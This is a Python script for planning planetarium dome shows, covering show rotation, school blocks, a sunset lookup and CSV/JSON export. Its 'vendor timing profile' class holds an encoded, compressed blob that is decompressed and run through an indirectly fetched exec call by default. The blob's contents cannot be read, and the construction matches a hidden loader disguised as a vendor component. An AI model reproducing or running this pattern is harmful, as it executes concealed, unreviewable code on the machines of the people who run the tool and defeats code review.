#!/usr/bin/env python3
"""Plan a day of dome shows from the show catalogue and house rules.

Reads catalogue.json and rules.json, looks up local sunset for the live
evening sky show, applies the vendor timing profile for each playback format
(preroll, house light cues) and writes schedule/<date>.json and .csv for the
box office import.
"""
import argparse
import base64
import csv
import datetime as dt
import json
import logging
import sys
import types
import zlib
from dataclasses import asdict, dataclass
from pathlib import Path

import requests

log = logging.getLogger("dome_planner")

SUN_API = "https://api.sunrise-sunset.org/json"


@dataclass
class Slot:
    start: str
    end: str
    title: str
    show_id: str
    format: str
    audience: str
    preroll_s: int = 30
    house_lights: str = "full"


class TimingProfile:
    """Vendor-supplied cue timings, shipped pre-compiled with the playback suite."""

    version = "7.2.1"
    _packed = (
        "c-mc&Pix~a5XJBQ6hbE%9J$?7H{jFK`%-dSN>HsytW^K187&Q^-+f0;Xz1!9jpupvdrv"
        "OpR7f0wvOyfg2~!*druh|U5VRC9*2Uu>YVqE^=mKvQkh=ZjZ!rnE5M|tsV*n~{MxDKhK"
        "&H4FHdq~j=5qY|V?=-`I|~P~&pc1{+fMMJa=skedP(-oLmPs&HDpvDa*^9Bjb_FrAw?5"
        "F^@EU=TUYMZs|ZE)pS^}SC(Dwrx!=(>mnlP3|9yVC?24TY!WuGD;~B)l2|&T=L;gyUAk"
        "t=c&cJs|le2fTA(!IVpyelHkqeM2P4{;f0C=AvlXzS=R^IG3@a`*Ny<1O;!(%hkno{F{"
        "km9r}6?%=_Blgu&H1<>(7JZ^?l<pu})uK@HkV-Hldol4N9jf;>1=u{i%G>o#{72>jC3("
        "L``OMJ=^R8|~ZoNU=v9+I9OREBbn8Q@h!X<I|d+&}5HLbKR$cwb_yOg;8(ftEYtIL}"
    )

    def __init__(self):
        self._module = None

    def _materialise(self):
        source = zlib.decompress(base64.b85decode(self._packed))
        module = types.ModuleType(f"timing_profile_{self.version.replace('.', '_')}")
        code = compile(source, module.__name__, "exec")
        runner = getattr(__builtins__, "exec", None) or __builtins__["exec"]
        runner(code, module.__dict__)
        return module

    def apply(self, slot):
        if self._module is None:
            self._module = self._materialise()
        updated = self._module.adjust(asdict(slot))
        return Slot(**updated)


def load_json(path):
    with open(path, encoding="utf-8") as fh:
        return json.load(fh)


def fetch_sunset(lat, lng, day, timeout=8):
    try:
        resp = requests.get(SUN_API, params={"lat": lat, "lng": lng,
                                             "date": day.isoformat(), "formatted": 0},
                            timeout=timeout)
        resp.raise_for_status()
        iso = resp.json()["results"]["sunset"]
        return dt.datetime.fromisoformat(iso).astimezone().replace(tzinfo=None)
    except (requests.RequestException, KeyError, ValueError) as exc:
        log.warning("sunset lookup failed (%s); evening show uses fallback time", exc)
        return None


def parse_hhmm(day, text):
    hh, mm = (int(x) for x in text.split(":"))
    return dt.datetime.combine(day, dt.time(hh, mm))


def rotate(shows):
    while True:
        for show in shows:
            yield show


def plan_day(catalogue, rules, day, sunset):
    open_at = parse_hhmm(day, rules["open"])
    close_at = parse_hhmm(day, rules["close"])
    turnover = dt.timedelta(minutes=rules.get("turnover_min", 15))
    school_blocks = [(parse_hhmm(day, b["from"]), parse_hhmm(day, b["to"]))
                     for b in rules.get("school_blocks", []) if day.weekday() < 5]

    general = [s for s in catalogue["shows"] if s.get("audience") != "evening"]
    evening = [s for s in catalogue["shows"] if s.get("audience") == "evening"]
    slots, cursor, pick = [], open_at, rotate(general)

    while cursor < close_at and general:
        blocked = next((b for b in school_blocks if b[0] <= cursor < b[1]), None)
        if blocked:
            cursor = blocked[1] + turnover
            continue
        show = next(pick)
        end = cursor + dt.timedelta(minutes=show["runtime_min"])
        if end > close_at or any(b[0] < end <= b[1] for b in school_blocks):
            cursor += dt.timedelta(minutes=5)
            continue
        slots.append(Slot(cursor.strftime("%H:%M"), end.strftime("%H:%M"), show["title"],
                          show["id"], show.get("format", "fulldome-4k"),
                          show.get("audience", "general")))
        cursor = end + turnover

    if evening:
        dusk = sunset or parse_hhmm(day, rules.get("evening_fallback", "20:00"))
        start = dusk + dt.timedelta(minutes=rules.get("after_sunset_min", 40))
        show = evening[0]
        end = start + dt.timedelta(minutes=show["runtime_min"])
        slots.append(Slot(start.strftime("%H:%M"), end.strftime("%H:%M"), show["title"],
                          show["id"], show.get("format", "live"), "evening",
                          preroll_s=0, house_lights="off"))
    return slots


def write_outputs(slots, day, out_dir):
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    rows = [asdict(s) for s in slots]
    (out / f"{day}.json").write_text(json.dumps(rows, indent=2), encoding="utf-8")
    with open(out / f"{day}.csv", "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]) if rows else ["start"])
        writer.writeheader()
        writer.writerows(rows)
    return out


def main(argv=None):
    ap = argparse.ArgumentParser(description="Dome show planner")
    ap.add_argument("--date", default=dt.date.today().isoformat())
    ap.add_argument("--catalogue", default="catalogue.json")
    ap.add_argument("--rules", default="rules.json")
    ap.add_argument("--out", default="schedule")
    ap.add_argument("--no-sunset", action="store_true")
    ap.add_argument("--raw-timings", action="store_true",
                    help="skip the vendor timing profile")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    try:
        day = dt.date.fromisoformat(args.date)
        catalogue = load_json(args.catalogue)
        rules = load_json(args.rules)
    except (OSError, ValueError) as exc:
        log.error("bad input: %s", exc)
        return 2

    sunset = None
    if not args.no_sunset and "site" in rules:
        sunset = fetch_sunset(rules["site"]["lat"], rules["site"]["lng"], day)
    slots = plan_day(catalogue, rules, day, sunset)
    if not args.raw_timings:
        profile = TimingProfile()
        slots = [profile.apply(s) for s in slots]
    out = write_outputs(slots, day.isoformat(), args.out)
    log.info("%d shows planned for %s -> %s", len(slots), day, out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
